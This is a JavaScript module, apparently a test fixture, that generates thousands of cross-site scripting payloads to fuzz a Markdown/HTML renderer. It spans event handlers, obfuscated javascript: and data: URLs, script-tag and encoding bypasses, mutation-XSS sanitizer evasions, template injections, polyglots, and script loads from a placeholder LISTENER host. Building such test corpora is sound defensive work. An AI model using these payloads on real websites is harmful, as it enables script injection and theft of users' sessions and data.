/**
 * What runs in pages that let it: the known families of cross-site scripting, written out of what each is made of. All of them set `ran`,
 * and reach for the listener where they can; those of wfuzz and of the naughty strings come beside them.
 */

import { existsSync, readFileSync } from 'node:fs'
import { createRequire } from 'node:module'

const words = (text) => text.trim().split(/\s+/)

const events = words(`
  abort animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforepaste
  beforetoggle beforeunload begin blur cancel canplay canplaythrough change click close contentvisibilityautostatechange
  contextmenu copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied end
  ended error focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup
  load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout
  mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave
  pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll
  scrollend search securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled start submit
  suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun
  transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkittransitionend wheel`)

const elements = words(`
  a abbr address applet area article aside audio b base bdi bdo bgsound blink blockquote body br button canvas caption center
  cite code col colgroup command content custom-tag data datalist dd del details dfn dialog dir div dl dt element em embed
  fieldset figcaption figure font footer form frame frameset h1 head header hgroup hr html i iframe image img input ins isindex
  kbd keygen label layer legend li link listing main map mark marquee math menu menuitem meta meter multicol nav nextid nobr
  noembed noframes noscript object ol optgroup option output p param picture plaintext portal pre progress q rb rp rt rtc ruby s
  samp script section select shadow slot small source spacer span strike strong style sub summary sup svg table tbody td
  template textarea tfoot th thead time title tr track tt u ul var video wbr xmp xss animate animateMotion animateTransform set
  foreignObject use mglyph malignmark mtext annotation-xml maction`)

const run = 'ran(1)'

const ofEvents = events.flatMap((event) => [
  `<img src=x on${event}=${run}>`,
  `<b on${event}="${run}" tabindex=1 contenteditable style="display:block">a</b>`,
  `<svg on${event}=${run} />`,
  `" on${event}="${run}" x="`,
  `' on${event}='${run}' x='`,
  `{on${event}="${run}"}`,
])

const ofElements = elements.flatMap((element) => [
  `<${element} onload=${run} onerror=${run} onfocus=${run} autofocus tabindex=0 src=x data=x href=x>a</${element}>`,
  `<${element.toUpperCase()}/onmouseover=${run}>a`,
  `<${element} style="animation-name:x" onanimationstart="${run}" id=x></${element}>`,
])

const addresses = [
  'javascript:ran(1)',
  'JaVaScRiPt:ran(1)',
  ' javascript:ran(1)',
  'java\tscript:ran(1)',
  'java&#9;script:ran(1)',
  'java&NewLine;script:ran(1)',
  'java&Tab;script&colon;ran(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;ran(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;ran(1)',
  '&#0000106javascript:ran(1)',
  'javascript&#58;ran(1)',
  'javascript&colon;ran(1)',
  '\u0001javascript:ran(1)',
  '\u00a0javascript:ran(1)',
  '\u2028javascript:ran(1)',
  'javascript\u200b:ran(1)',
  'jav\u0000ascript:ran(1)',
  String.raw`\javascript:ran(1)`,
  String.raw`javascript\:ran(1)`,
  '%6aavascript:ran(1)',
  'javascript:%72an(1)',
  'javascript://%0aran(1)',
  'javascript://exempel.se/%0d%0aran(1)',
  'javascript:/*a*/ran(1)',
  '"javascript:ran(1)"',
  'vbscript:ran(1)',
  'livescript:ran(1)',
  'mocha:ran(1)',
  'data:text/html,<script>parent.ran(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran(1)"/>',
  'data:text/javascript,ran(1)',
  'data:application/xhtml+xml,<html/>',
  'blob:null/a',
  'filesystem:http://a/b',
  'view-source:javascript:ran(1)',
  'feed:javascript:ran(1)',
  'jar:javascript:ran(1)!/',
  'about:blank#ran(1)',
  'file:///etc/passwd',
  '//LISTENER/a',
  'http://LISTENER/a',
  String.raw`\\LISTENER\a`,
  'http:LISTENER/a',
  'https://user@LISTENER/',
  '#" onclick="ran(1)',
]

const carriers = [
  (address) => `[a](${address})`,
  (address) => `[a](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `[a][b]\n\n[b]: ${address}`,
  (address) => `![a](${address})`,
  (address) => `![a](<${address}> "b")`,
  (address) => `<a href="${address}">a</a>`,
  (address) => `<a xlink:href='${address}'>a</a>`,
  (address) =>
    `<iframe src="${address}"></iframe><embed src="${address}"><object data="${address}"></object>`,
  (address) =>
    `<img src="${address}" srcset="${address} 2x" longdesc="${address}" lowsrc="${address}" dynsrc="${address}">`,
  (address) =>
    `<form action="${address}"><button formaction="${address}">a</button><input type=image src="${address}"></form>`,
  (address) =>
    `<svg><a xlink:href="${address}"><text>a</text></a><use href="${address}"/><image href="${address}"/></svg>`,
  (address) =>
    `<math href="${address}">a</math><math><maction actiontype="statusline#a" xlink:href="${address}">a</maction></math>`,
  (address) =>
    `<base href="${address}"><link rel=stylesheet href="${address}"><link rel=import href="${address}"><link rel=prefetch href="${address}">`,
  (address) =>
    `<meta http-equiv=refresh content="0;url=${address}"><body background="${address}"><table background="${address}">`,
  (address) => `<b style="background:url(${address})">a</b><style>@import "${address}";</style>`,
  (address) =>
    `<video poster="${address}"><source src="${address}"><track src="${address}"></video><audio src="${address}">`,
  (address) =>
    `<blockquote cite="${address}">a</blockquote><q cite="${address}">a</q><ins cite="${address}">a</ins>`,
  (address) =>
    `<svg><animate attributeName=href values="${address}"/><set attributeName=href to="${address}"/></svg>`,
]
const ofAddresses = addresses.flatMap((address) => carriers.map((carry) => carry(address)))

const ofScripts = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script >${run}</script >`,
  `<script\t>${run}</script\t>`,
  `<script/x>${run}</script/x>`,
  `<script\n>${run}</script\n>`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script>${run}`,
  `<script src=//LISTENER/a.js></script>`,
  `<script src=data:,ran(1)></script>`,
  `<script type=module>${run}</script>`,
  `<script type=text/vbscript>${run}</script>`,
  `<script for=window event=onload>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href=data:,ran(1) /></svg>`,
  `<math><script>${run}</script></math>`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `\ufeff<script>${run}</script>`,
  `＜script＞${run}＜/script＞`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  String.raw`\x3cscript\x3e${run}\x3c/script\x3e`,
  String.raw`\u003cscript\u003e${run}\u003c/script\u003e`,
  `</script><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</noscript><script>${run}</script>`,
  `</template><script>${run}</script>`,
  `--><script>${run}</script>`,
  `--!><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `*/<script>${run}</script>`,
  `'"><script>${run}</script>`,
  `"/><script>${run}</script>`,
  '`><script>ran(1)</script>',
  `<!--><script>${run}</script>`,
  `<!-- --!><img src=x onerror=${run}> -->`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<? a ><img src=x onerror=${run}> ?>`,
  `<!a ><img src=x onerror=${run}>`,
  `</a ><img src=x onerror=${run}>`,
  `<%= ran(1) %>`,
  '${ran(1)}',
  '{{ran(1)}}',
  "{{constructor.constructor('ran(1)')()}}",
  '{{{ran}}}',
  '{{#with "s" as |string|}}{{string.constructor}}{{/with}}',
  '[[${ran(1)}]]',
  '#{ran(1)}',
]

/** What a cleaner makes harmless and a browser's second reading makes harmful again. */
const ofSecondReadings = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg><style><a title="</style><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${run}>"></style></h1>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<svg><desc><noscript></noscript></desc><style><a title="</style><img src=x onerror=${run}>"></style></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<textarea><a title="</textarea><img src=x onerror=${run}>">`,
  `<title><a title="</title><img src=x onerror=${run}>">`,
  `<xmp><a title="</xmp><img src=x onerror=${run}>">`,
  `<iframe><a title="</iframe><img src=x onerror=${run}>">`,
  `<noembed><a title="</noembed><img src=x onerror=${run}>">`,
  `<noframes><a title="</noframes><img src=x onerror=${run}>">`,
  `<plaintext><img src=x onerror=${run}>`,
  `<template><img src=x onerror=${run}></template>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
  `<table><td background="javascript:${run}"><img src=x onerror=${run}></table>`,
  `<a id=a href="a" <b <i onclick=${run}>a`,
  '<img src="`` onerror=ran(1)">',
  `<img alt="\`><img src=x onerror=${run}>\`">`,
  `<img src='x' title='"onerror=${run}'>`,
  `<div style="font-family:'foo&#10;;color:red;background:url(//LISTENER/a)'">a</div>`,
  `<div style="width:expression(${run})">a</div>`,
  `<div style="-moz-binding:url(//LISTENER/a)">a</div>`,
  `<div style="behavior:url(//LISTENER/a)">a</div>`,
  `<style>*{background:url(//LISTENER/a)}</style>`,
  `<style onload=${run}></style>`,
  `<b id=document name=cookie></b><form id=ran><input name=action></form><a id=self href=//LISTENER/a>a</a>`,
  `<img name=getElementById><img id=createElement><form id=body>`,
]

const ofMarks = [
  `[a]("onclick=${run})`,
  `[a](b "c\\" onclick=${run} d=\\"")`,
  `![a](b.png "c" onerror=${run})`,
  `![a" onerror="${run}](b.png)`,
  `[a](b){onclick=${run}}`,
  `![a](b.png){onerror=${run}}`,
  `## a {onclick=${run}}`,
  `## a {#"onclick=${run}}`,
  `:::note{onclick="${run}"}\na\n:::`,
  `:::note[<img src=x onerror=${run}>]\na\n:::`,
  `:::table[<img src=x onerror=${run}>]{#"onclick="${run} note="<img src=x onerror=${run}>"}\n\n| <img src=x onerror=${run}> |\n| - |\n| <img src=x onerror=${run}> |\n\n:::`,
  `:ref[<img src=x onerror=${run}>]`,
  `{{<img src=x onerror=${run}>}}`,
  `[^<img src=x onerror=${run}>]`,
  `a[^x]\n\n[^x]: <img src=x onerror=${run}>`,
  `\`\`\`html" onclick="${run}\na\n\`\`\``,
  '```<script>ran(1)</script>\na\n```',
  `<https://a.se/"onclick="${run}>`,
  `https://a.se/"onclick="${run}`,
  `a@b.se"onclick="${run}`,
  `[a]: javascript:${run}\n\n[a]`,
  `![a]\n\n[a]: javascript:${run} "b"`,
]

const polyglots = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=ran(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=ran(1)//>\\x3e',
  '">><marquee><img src=x onerror=ran(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=ran(1)><script>ran(1)</script>@gmail.com<isindex formaction=javascript:ran(1) type=submit>\'-->"></script><script>ran(1)</script>">',
  'javascript://\'/</title></style></textarea></script>--><p" onclick=ran(1)//>*/ran(1)/*',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+ran(1)//'>",
  '-->\'"/></sCript><svG x=">" onload=(ran)``>',
  '\'"()&%<acx><ScRiPt >ran(1)</ScRiPt>',
]

/** Debian's package `wfuzz` has lists of its own. */
const lists = ['XSS.txt', 'All_attack.txt', 'XML.txt'].map(
  (name) => `/usr/share/wfuzz/wordlist/Injections/${name}`,
)
const others = [
  ...createRequire(import.meta.url)('big-list-of-naughty-strings').filter((text) =>
    /[<&]|script|on\w+=/i.test(text),
  ),
  ...lists.flatMap((file) => (existsSync(file) ? readFileSync(file, 'latin1').split('\n') : [])),
]

export const payloads = [
  ...new Set([
    ...ofScripts,
    ...ofSecondReadings,
    ...ofMarks,
    ...polyglots,
    ...ofEvents,
    ...ofElements,
    ...ofAddresses,
    ...others.map((text) => text.replace(/\b(?:alert|confirm|prompt)\b/g, 'ran')),
  ]),
].filter((text) => text.trim() !== '')
